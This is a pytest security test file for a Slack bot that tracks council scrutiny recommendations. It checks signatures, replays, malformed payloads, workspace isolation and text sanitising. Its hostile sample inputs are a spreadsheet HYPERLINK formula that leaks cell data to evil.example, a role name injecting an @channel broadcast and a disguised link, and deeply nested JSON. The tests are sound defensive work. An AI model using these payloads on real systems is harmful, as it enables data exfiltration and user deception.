"""What an attacker and a flaky network tried at the HTTP boundary: unsigned and oddly signed
requests, replays, payloads of the wrong shape, another workspace's rows, formulas and control
characters in people's text, and a database that does not answer."""
from __future__ import annotations

import asyncio
import json
import time
import uuid
from datetime import date
from urllib.parse import quote

import aiohttp
import pytest
from aiohttp import web
from sqlalchemy import select

from bot.config import Settings
from bot.export.csv_format import neutralise
from bot.importing import ImportedItem, parse_paper
from bot.offline import slack_payloads as payloads
from bot.server import web_app
from bot.services.imports import import_items
from models.tables import Item, Position

CYP = "Children and Young People Scrutiny Committee"


async def cyp_with_rec10(h, team="T1", channel="CCYP"):
    """#cyp bound to CYP, with sg2010 rec-10 owned by the chair role (Alice)."""
    admin = "UADMIN" if team == "T1" else "UT2ADMIN"
    await h.command("/scrutiny", f"setup cyp {CYP}", user=admin, channel=channel, team=team)
    if team == "T1":
        await h.command("/scrutiny", "role chair <@UALICE|alice>", user=admin, channel=channel, team=team)
    async with h.db.session() as s, s.begin():
        await import_items(s, team_id=team, committee_code="cyp", review_code="sg2010", actor=admin,
                           now=h.clock.now, title="Position paper", as_of=date(2010, 6, 1),
                           items=[ImportedItem(number="10", text="Ensure foster carers are trained.",
                                               owners=[f"Chair of {CYP}"], due=date(2026, 3, 1))])
    async with h.db.session() as s:
        return await s.scalar(select(Item.id).where(Item.team_id == team, Item.number == "10"))


async def position_texts(h, item_id: int) -> list[str]:
    async with h.db.session() as s:
        return list(await s.scalars(select(Position.text).where(Position.item_id == item_id).order_by(Position.id)))


def update_body(text: str, *, user="UALICE", team="T1", channel="CCYP") -> str:
    return payloads.slash_command_body("/update", text, user_id=user, team_id=team, channel_id=channel,
                                       response_url="http://127.0.0.1:9/never/" + uuid.uuid4().hex)


# ---------------------------------------------------------------- signatures

@pytest.mark.parametrize("timestamp", ["abc", "", "1.5", " 17", "-5", "1e9"])
async def test_a_timestamp_that_is_not_a_whole_number_is_refused_without_side_effects(harness, timestamp):
    """No response_url from an unverified body is ever called, whatever the headers hold."""
    body = payloads.block_actions_body(action_id="item_view", value='{"item_id":1}', user_id="UDAVE",
                                       team_id="T1", channel_id="CCYP",
                                       response_url=harness.slack.response_url("attacker"),
                                       trigger_id=payloads.new_trigger_id(), text="View")
    headers = payloads.sign(body, "test-signing-secret")
    headers["X-Slack-Request-Timestamp"] = timestamp
    async with harness.http.post(harness.url + "/slack/events", data=body.encode(), headers=headers) as resp:
        assert resp.status == 401
    await asyncio.sleep(0.2)
    assert not harness.slack.calls_to("response_url")


async def test_a_body_nested_absurdly_deep_is_refused_before_anything_reads_it(harness):
    deep = "[" * 100_000 + "]" * 100_000
    status, _ = await harness.post(deep, content_type=payloads.JSON)
    assert status == 400
    status, _ = await harness.post(deep, content_type=payloads.JSON, secret="wrong")
    assert status == 401


# ---------------------------------------------------------------- replays

async def test_a_replayed_command_acts_once(harness):
    item = await cyp_with_rec10(harness)
    body = update_body("rec-10 position Training booked for June")
    headers = payloads.sign(body, "test-signing-secret")
    for _ in range(3):   # the same signed request, three times within the five-minute window
        async with harness.http.post(harness.url + "/slack/events", data=body.encode(), headers=headers) as resp:
            assert resp.status == 200
    assert (await position_texts(harness, item)).count("Training booked for June") == 1


# ---------------------------------------------------------------- payload shapes

async def test_payloads_of_the_wrong_shape_are_refused_in_one_line_and_change_nothing(harness, caplog):
    item = await cyp_with_rec10(harness)
    before = await position_texts(harness, item)
    broken = [
        {"type": "block_actions", "actions": [], "team": {"id": "T1"}, "user": {"id": "UDAVE", "team_id": "T1"}},
        {"type": "block_actions", "actions": [{"action_id": "list_more", "value": {"x": 1}}],
         "team": {"id": "T1"}, "user": {"id": "UDAVE"}},
        {"type": "view_submission", "view": None, "team": {"id": "T1"}, "user": {"id": "UALICE"}},
        {"type": "view_submission", "view": {"callback_id": "update_item", "state": {"values": []}},
         "team": {"id": "T1"}, "user": {"id": "UALICE"}},
        {"type": "block_actions", "actions": [{"action_id": "list_more", "value": "[" * 5000 + "]" * 5000}],
         "team": {"id": "T1"}, "user": {"id": "UDAVE"}, "response_url": harness.slack.response_url("deep")},
    ]
    for payload in broken:
        status, _ = await harness.post("payload=" + quote(json.dumps(payload)))
        assert status < 500, payload
    assert await position_texts(harness, item) == before
    assert "Traceback" not in caplog.text


async def test_tampered_list_filters_get_a_polite_answer(harness):
    await cyp_with_rec10(harness)
    for value in ('{"due_start":"2024-02-30"}', '{"offset":9223372036854775808}', '{"offset":-1}',
                  '{"search":"not a list"}', '{"committee_id":"1"}', "[" * 5000 + "]" * 5000):
        key = uuid.uuid4().hex
        body = payloads.block_actions_body(action_id="list_more", value=value, user_id="UDAVE", team_id="T1",
                                           channel_id="CCYP", response_url=harness.slack.response_url(key),
                                           trigger_id=payloads.new_trigger_id(), text="More")
        status, _ = await harness.post(body)
        assert status == 200, value
        reply = await harness.reply(key)
        assert "out of date" in reply.text, (value, reply.text)


# ---------------------------------------------------------------- another workspace

async def test_an_admin_of_another_workspace_cannot_change_this_ones_items(harness):
    item = await cyp_with_rec10(harness)
    view = {"id": "V1", "type": "modal", "callback_id": "update_item", "app_installed_team_id": "T1",
            "team_id": "T1", "private_metadata": json.dumps({"item_id": item, "channel_id": "CCYP"}),
            "blocks": []}
    values = {"position": {"value": {"type": "plain_text_input", "value": "Taken over"}},
              "owners": {"value": {"type": "plain_text_input", "value": "Someone"}},
              "status": {"value": {"type": "static_select", "selected_option": {"value": "completed"}}}}
    body = payloads.view_submission_body(view=view, values=values, user_id="UT2ADMIN", team_id="T2")
    status, text = await harness.post(body)
    assert status == 200
    assert "Taken over" not in await position_texts(harness, item)
    async with harness.db.session() as s:
        assert (await s.get(Item, item)).status != "completed"


# ---------------------------------------------------------------- people's text

async def test_nul_and_control_characters_never_reach_the_database(harness):
    item = await cyp_with_rec10(harness)
    status, _ = await harness.post(update_body("rec-10 position Agreed\x00 with\x07 the\x1b board"))
    assert status == 200
    assert "Agreed with the board" in await position_texts(harness, item)


def test_formulas_are_neutralised_in_csv_and_xlsx_and_read_back_as_typed(tmp_path):
    from openpyxl import load_workbook

    from bot.export.content import PaperRow, PositionPaper
    from bot.export.csv_format import render_csv
    from bot.export.xlsx import render_xlsx

    evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    assert neutralise(evil) == "'" + evil and neutralise("Plain") == "Plain"
    for start in "=+-@\t\r":
        assert neutralise(start + "x").startswith("'")
    rows = [PaperRow(ref="rec-1", number="1", text="@SUM(A1:A9)", owners=["+Cabinet"], due=None,
                     status="open", rag=None, position=evil + "\x01", position_date=None)]
    paper = PositionPaper(council="C", committee="Cttee", committee_code="c", heading="Position",
                          as_of=date(2026, 6, 1), rows=rows, review_code="r", review_title="R")
    wb = load_workbook(filename=_write(tmp_path / "p.xlsx", render_xlsx(paper)))
    cells = [c for row in wb["Position"].iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert all(not str(c.value or "").startswith(("=", "+", "-", "@")) for c in cells)
    csv_text = render_csv(paper).decode("utf-8-sig")
    assert "\n=" not in csv_text and ",=" not in csv_text and ",@" not in csv_text
    # Importing the export gives back what people typed.
    back = parse_paper(render_csv(paper), "p.csv", today=date(2026, 6, 1))
    assert back.items[0].text == "@SUM(A1:A9)"


def _write(path, data: bytes):
    path.write_bytes(data)
    return path


# ---------------------------------------------------------------- the database does not answer

async def test_healthz_answers_503_quickly_when_the_database_hangs(harness):
    class Hanging:
        async def healthy(self):
            await asyncio.sleep(60)
            return True

    runner = web.AppRunner(web_app(harness.app, Hanging()))
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = site._server.sockets[0].getsockname()[1]
    try:
        async with aiohttp.ClientSession() as http:
            started = time.monotonic()
            async with http.get(f"http://127.0.0.1:{port}/healthz") as resp:
                assert resp.status == 503
            assert time.monotonic() - started < 10
    finally:
        await runner.cleanup()


def test_host_is_a_setting():
    assert Settings.from_env({}).host == "127.0.0.1"
    assert Settings.from_env({"HOST": "0.0.0.0"}).host == "0.0.0.0"


async def test_admins_are_admins_of_their_own_workspace_only(slack):
    from slack_sdk.web.async_client import AsyncWebClient

    from bot.services.directory import Directory

    client = AsyncWebClient(token="xoxb-test", base_url=slack.api_url)
    directory = Directory(client, frozenset({"T2:UDAVE", "UENV"}))
    assert await directory.is_admin("UDAVE", "T2")
    assert not await directory.is_admin("UDAVE", "T1")           # named for T2 only
    assert await directory.is_admin("UENV", "T1")                # a bare ID: every workspace served
    assert await directory.is_admin("UT2ADMIN", "T2")            # Slack's own flag, in its workspace
    assert not await directory.is_admin("UT2ADMIN", "T1")        # ... and nowhere else
    assert await directory.is_admin("UADMIN", "T1") and not await directory.is_admin("UADMIN", "T2")


# ---------------------------------------------------------------- role holders' text, private committees

async def test_a_role_holders_typed_name_cannot_broadcast_or_hide_a_link(harness):
    await harness.command("/scrutiny", f"setup cyp {CYP}", user="UADMIN", channel="CCYP")
    r = await harness.command("/scrutiny", 'role "Cabinet Member" Jane <!channel> <https://evil.example|click>',
                              user="UADMIN", channel="CCYP")
    shown = [r.visible, (await harness.command("/scrutiny", "roles", user="UDAVE", channel="CCYP")).visible]
    for text in shown:
        assert "<!channel>" not in text and "<https://evil.example" not in text, text
        assert "&lt;!channel&gt;" in text


async def test_outsiders_learn_nothing_of_a_private_committee(harness):
    h = harness
    await h.command("/scrutiny", "setup ssc Safeguarding Sub-Committee", user="UADMIN", channel="CSSC")
    await h.command("/scrutiny", "role chair <@UALICE|alice>", user="UADMIN", channel="CSSC")
    async with h.db.session() as s, s.begin():
        await import_items(s, team_id="T1", committee_code="ssc", review_code="ssc1", actor="UADMIN",
                           now=h.clock.now, title="Private paper", as_of=date(2010, 6, 1),
                           items=[ImportedItem(number="1", text="A private matter.", owners=["Secret Panel Lead"])])
    outsider = await h.command("/scrutiny", "roles", user="UDAVE", channel="CCYP")
    assert "Safeguarding Sub-Committee" not in outsider.visible and "Secret Panel Lead" not in outsider.visible
    member = await h.command("/scrutiny", "roles", user="UALICE", channel="CSSC")
    assert "Secret Panel Lead" in member.visible and "Chair of Safeguarding Sub-Committee" in member.visible
    # A tampered letter form naming the private committee is refused without naming it.
    async with h.db.session() as s:
        from models.tables import Committee
        ssc = await s.scalar(select(Committee.id).where(Committee.code == "ssc"))
    view = {"id": "V9", "type": "modal", "callback_id": "letter_form", "blocks": [],
            "private_metadata": json.dumps({"committee_id": ssc, "channel_id": "CCYP"})}
    values = {"letter": {"value": {"type": "plain_text_input", "value": "Dear partners"}}}
    status, answer = await h.post(payloads.view_submission_body(view=view, values=values, user_id="UDAVE",
                                                                team_id="T1"))
    assert status == 200
    assert "Safeguarding" not in json.dumps(answer or {})


async def test_a_date_that_is_not_on_the_calendar_is_a_form_error(harness):
    item = await cyp_with_rec10(harness)
    view = {"id": "V2", "type": "modal", "callback_id": "update_item", "blocks": [],
            "private_metadata": json.dumps({"item_id": item, "channel_id": "CCYP"})}
    for bad in ("2024-02-30", "soon", 20240101):
        values = {"position": {"value": {"type": "plain_text_input", "value": "New dates"}},
                  "owners": {"value": {"type": "plain_text_input", "value": f"Chair of {CYP}"}},
                  "due": {"value": {"type": "datepicker", "selected_date": bad}}}
        body = payloads.view_submission_body(view=view, values=values, user_id="UALICE", team_id="T1")
        status, answer = await harness.post(body)
        assert status == 200 and json.loads(answer) == {"response_action": "errors",
                                            "errors": {"due": "That isn't a date on the calendar: pick it again."}}
    assert "New dates" not in await position_texts(harness, item)
